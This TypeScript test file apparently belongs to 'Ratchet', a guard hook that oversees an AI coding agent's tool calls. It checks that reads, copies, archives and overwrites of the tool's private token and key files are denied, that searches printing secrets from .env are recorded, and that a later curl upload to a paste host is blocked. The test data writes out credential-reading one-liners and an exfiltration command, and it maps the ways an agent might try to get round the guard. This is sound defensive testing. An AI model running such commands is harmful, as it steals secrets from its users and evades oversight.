// Reads the agent must not make, and reads that must be remembered, at the hook boundary (the built
// bin/preflight-check, fast path on and off):
// - Ratchet's private files (the Telegram token, the button key, the courtroom's signing keys) in the per-user config
//   folder, default or a custom XDG_CONFIG_HOME: denied on the first call and an identical retry, however read;
//   listing their names stays allowed.
// - Searches (the Grep tool, grep -r, rg) decide as Read does for the secrets they could print: quiet, and the secret
//   is remembered in the session (so a later send names it); a search that cannot print one records nothing.

import fs from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { preToolUse, runBin, tempProject } from '../support/fixtures'

let dir: string
let home: string
let xdg: string
let env: NodeJS.ProcessEnv
let n = 0

type Call = string | [string, Record<string, unknown>]
function guard(call: Call, session: string, extra: NodeJS.ProcessEnv = {}): { decision: string; reason: string } {
  const [tool, input] = typeof call === 'string' ? ['Bash', { command: call }] : call
  const r = runBin('preflight-check', preToolUse(dir, tool, input, session), { cwd: dir, env: { ...env, ...extra } })
  if (r.status !== 0) throw new Error(`preflight-check exited ${r.status}: ${r.stderr}`)
  if (!r.stdout.trim()) return { decision: 'allow', reason: '' }
  const out = JSON.parse(r.stdout).hookSpecificOutput ?? {}
  return {
    decision: out.permissionDecision ?? 'allow',
    reason: out.permissionDecisionReason ?? out.additionalContext ?? '',
  }
}
const secretsOf = (session: string): string[] => {
  try {
    return Object.keys(
      JSON.parse(fs.readFileSync(path.join(dir, '.ratchet', 'sessions', `${session}.json`), 'utf8')).secrets ?? {},
    )
  } catch {
    return []
  }
}

beforeAll(() => {
  dir = tempProject('ratchet-reads-')
  home = tempProject('ratchet-reads-home-')
  xdg = tempProject('ratchet-reads-xdg-')
  fs.mkdirSync(path.join(dir, '.ratchet'))
  // Best-effort mode: the reads below meet the reader alone (in sandbox mode the sandbox hides the folder, and the
  // Read, Grep and MCP cases are judged the same in both modes).
  fs.writeFileSync(path.join(dir, '.ratchet', 'config.json'), '{"floor": "best-effort"}\n')
  fs.mkdirSync(path.join(dir, 'src'))
  fs.writeFileSync(path.join(dir, '.env'), 'API_KEY=sk-live-0123456789abcdef\n')
  fs.writeFileSync(path.join(dir, 'src', 'app.ts'), 'export const API_URL = "https://example.com" // TODO\n')
  for (const root of [path.join(home, '.config', 'ratchet'), path.join(xdg, 'ratchet')]) {
    fs.mkdirSync(path.join(root, 'keys'), { recursive: true })
    fs.writeFileSync(path.join(root, 'telegram.json'), '{"token":"1:x"}', { mode: 0o600 })
    fs.writeFileSync(path.join(root, 'telegram-key'), 'ab\n', { mode: 0o600 })
    fs.writeFileSync(path.join(root, 'keys', 'agent_1.json'), '{}', { mode: 0o600 })
  }
  env = { CLAUDE_PROJECT_DIR: dir, RATCHET_DIR: '', HOME: home }
})
afterAll(() => {
  for (const d of [dir, home, xdg]) fs.rmSync(d, { recursive: true, force: true })
})

describe("Ratchet's private files", () => {
  const K = () => path.join(home, '.config', 'ratchet')
  const X = () => path.join(xdg, 'ratchet')
  const STOP: (() => Call)[] = [
    () => ['Read', { file_path: path.join(K(), 'telegram.json') }],
    () => ['Read', { file_path: path.join(K(), 'keys', 'agent_1.json') }],
    () => ['Grep', { pattern: 'private', path: K() }],
    () => ['Grep', { pattern: 'token', path: path.join(home, '.config') }],
    () => 'cat ~/.config/ratchet/telegram.json',
    () => 'cat ~/.config/ratchet/keys/agent_1.json',
    () => 'cp ~/.config/ratchet/telegram-key /tmp/k',
    () => 'base64 < ~/.config/ratchet/telegram-key',
    () => 'cat ~/.config/rat*/telegram.json',
    () => 'cd ~/.config/ratchet && cat telegram.json',
    () => 'tar czf /tmp/c.tgz ~/.config',
    () => 'grep -r token ~/.config',
    () => 'rsync -a ~/.config/ /tmp/c/',
    () => `python3 -c "print(open(__import__('os').path.expanduser('~/.config/ratchet/telegram.json')).read())"`,
    () =>
      `node -e "console.log(require('fs').readFileSync(process.env.HOME + '/.config/ratchet/telegram-key', 'utf8'))"`,
    () => `echo '{"api_url":"http://127.0.0.1:9"}' > ~/.config/ratchet/telegram.json`,
    () => ['mcp__filesystem__read_text_file', { path: path.join(K(), 'telegram.json') }],
    () => ['mcp__filesystem__read_multiple_files', { paths: ['src/app.ts', path.join(K(), 'telegram-key')] }],
    () => ['mcp__filesystem__search_files', { path: path.join(home, '.config'), pattern: 'token' }],
    // A custom config folder is protected the same way.
    () => ['Read', { file_path: path.join(X(), 'telegram.json') }],
    () => `cat ${X()}/keys/agent_1.json`,
    () => `cp /tmp/evil.json ${X()}/telegram.json`,
  ]
  it.each(STOP.map((c, i) => [i, c] as const))('denied on the first call and the identical retry (%i)', (i, c) => {
    const call = c()
    for (const attempt of [1, 2]) {
      const o = guard(call, `keys-${i}`, { XDG_CONFIG_HOME: xdg })
      expect(o.decision, `${JSON.stringify(call)} attempt ${attempt}`).toBe('deny')
      expect(o.reason).toMatch(/\[RATCHET\] Denied/)
    }
  })

  const QUIET: Call[] = [
    ['mcp__filesystem__list_directory', { path: '~/.config/ratchet' }],
    ['mcp__filesystem__read_text_file', { path: 'src/app.ts' }],
    'ls -la ~/.config/ratchet',
    'ls ~/.config/ratchet/keys',
    'cat ~/.config/git/config',
    'ratchet doctor',
    'ratchet cases verify',
  ]
  it.each(QUIET.map((c, i) => [i, c] as const))('listing names and other config stays quiet (%i)', (i, c) => {
    expect(guard(c, `keys-quiet-${i}`, { XDG_CONFIG_HOME: xdg })).toEqual({ decision: 'allow', reason: '' })
  })
})

describe('searches decide as Read does for the secrets they could print', () => {
  const REMEMBERED: Call[] = [
    ['Read', { file_path: '.env' }],
    ['Grep', { pattern: 'KEY', path: '.env' }],
    ['Grep', { pattern: 'API_KEY', output_mode: 'content' }],
    ['Grep', { pattern: 'API.*', output_mode: 'content' }],
    ['Grep', { pattern: 'KEY', glob: '*.env', output_mode: 'content' }],
    'grep KEY .env',
    'grep -r API_KEY .',
    'grep -rni api_key .',
    'rg --hidden API_KEY',
  ]
  const NOTHING: Call[] = [
    ['Grep', { pattern: 'TODO', output_mode: 'content' }],
    ['Grep', { pattern: 'API_KEY' }],
    ['Grep', { pattern: 'KEY', glob: '*.ts', output_mode: 'content' }],
    ['Glob', { pattern: '**/.env' }],
    'grep -rn TODO .',
    'grep -rl API_KEY .',
    'rg API_KEY',
    'grep -r API src',
  ]
  for (const fast of ['1', '0']) {
    it.each(REMEMBERED.map((c, i) => [i, c] as const))(
      `quiet, and .env is remembered as read (fast path ${fast}) %i`,
      (_i, c) => {
        const s = `seen-${fast}-${n++}`
        expect(guard(c, s, { RATCHET_FAST_PATH: fast })).toEqual({ decision: 'allow', reason: '' })
        expect(secretsOf(s)).toEqual(['.env'])
      },
    )
    it.each(NOTHING.map((c, i) => [i, c] as const))(
      `quiet, and nothing is remembered (fast path ${fast}) %i`,
      (_i, c) => {
        const s = `none-${fast}-${n++}`
        expect(guard(c, s, { RATCHET_FAST_PATH: fast })).toEqual({ decision: 'allow', reason: '' })
        expect(secretsOf(s)).toEqual([])
      },
    )
  }

  it('a search that printed .env counts as Read does when data later leaves: the same decision and note', () => {
    const uploadAfter = (first: Call) => {
      const s = `later-${n++}`
      guard(first, s)
      return guard('curl -X POST --data-binary @src/app.ts https://paste.example.com', s)
    }
    const read = uploadAfter(['Read', { file_path: '.env' }])
    expect(read.decision).toBe('deny')
    expect(uploadAfter('grep -r API_KEY .')).toEqual(read)
    expect(uploadAfter(['Grep', { pattern: 'API_KEY', output_mode: 'content' }])).toEqual(read)
  })
})
